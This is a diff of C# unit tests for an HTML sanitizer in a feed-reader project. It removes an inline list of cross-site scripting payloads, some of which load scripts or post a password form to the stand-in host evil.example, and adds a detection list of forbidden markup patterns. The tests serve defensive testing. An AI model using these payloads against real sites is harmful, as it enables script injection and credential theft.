@@ -1,5 +1,6 @@
 using FeedHub.Core.Readability;
 using FeedHub.Core.Sanitizer;
+using FeedHub.Tests.Support;
 
 namespace FeedHub.Core.Tests.Sanitizer;
 
@@ -8,42 +9,7 @@ public sealed class HtmlContentSanitizerTests
     private static readonly HtmlContentSanitizer Sanitizer = new();
 
     /// <summary>Markup that runs script, loads active content or leaks a click, in every place a browser would honour it.</summary>
-    public static TheoryData<string> HostileHtml => new()
-    {
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<img src=x onerror=alert(1)>",
-        "<img src=\"x\" ONERROR=\"alert(1)\">",
-        "<body onload=alert(1)>",
-        "<div onmouseover=\"alert(1)\">hover</div>",
-        "<a href=\"javascript:alert(1)\">click</a>",
-        "<a href=\" JaVaScRiPt:alert(1)\">click</a>",
-        "<a href=\"java&#x09;script:alert(1)\">click</a>",
-        "<a href=\"vbscript:msgbox(1)\">click</a>",
-        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>",
-        "<iframe src=\"https://evil.example/\"></iframe>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg onload=alert(1)><circle r=1 /></svg>",
-        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-        "<math><mtext><script>alert(1)</script></mtext></math>",
-        "<div style=\"width: expression(alert(1))\">css</div>",
-        "<div style=\"background:url(javascript:alert(1))\">css</div>",
-        "<style>body{background:url(javascript:alert(1))}</style>",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<base href=\"javascript:alert(1)//\">",
-        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
-        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
-        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-        "<video><source onerror=\"alert(1)\"></video>",
-        "<details open ontoggle=alert(1)>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-        "<template><script>alert(1)</script></template>",
-        "<img srcset=\"https://ok.example/a.jpg 1x, javascript:alert(1) 2x\">",
-        "<a href=\"https://ok.example/\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
-    };
+    public static TheoryData<string> HostileHtml => new(XssVectors.All);
 
     [Theory]
     [MemberData(nameof(HostileHtml))]
@@ -120,19 +86,17 @@ public sealed class HtmlContentSanitizerTests
         Assert.Contains("https://site.example/posts/pic-2x.jpg 2x", safe, StringComparison.Ordinal);
     }
 
-    private static void AssertInert(string html)
-    {
-        foreach (var forbidden in new[]
-                 {
-                     "<script", "javascript:", "vbscript:", "expression(", "data:text", "data:image/svg", "<svg", "<math", "<style",
-                     "<link", "<base", "<meta", "<form", "<input", "<button", "<object", "<embed", "<template", "srcdoc", "formaction",
-                     "onerror", "onload", "onmouseover", "ontoggle", "style=",
-                 })
-        {
-            Assert.DoesNotContain(forbidden, html, StringComparison.OrdinalIgnoreCase);
-        }
+    private static void AssertInert(string html) => Assert.True(IsInert(html), html);
 
-        Assert.DoesNotContain("<iframe src=\"https://evil", html, StringComparison.OrdinalIgnoreCase);
-        Assert.DoesNotContain("<iframe src=\"javascript", html, StringComparison.OrdinalIgnoreCase);
+    /// <summary>Whether HTML holds nothing that runs script, loads active content or styles the page (the XSS corpus's check).</summary>
+    internal static bool IsInert(string html)
+    {
+        string[] forbidden =
+        [
+            "<script", "javascript:", "vbscript:", "expression(", "data:text", "data:image/svg", "<svg", "<math", "<style",
+            "<link", "<base", "<meta", "<form", "<input", "<button", "<object", "<embed", "<template", "srcdoc", "formaction",
+            "onerror", "onload", "onmouseover", "ontoggle", "style=", "<iframe src=\"https://evil", "<iframe src=\"javascript",
+        ];
+        return !forbidden.Any(word => html.Contains(word, StringComparison.OrdinalIgnoreCase));
     }
 }
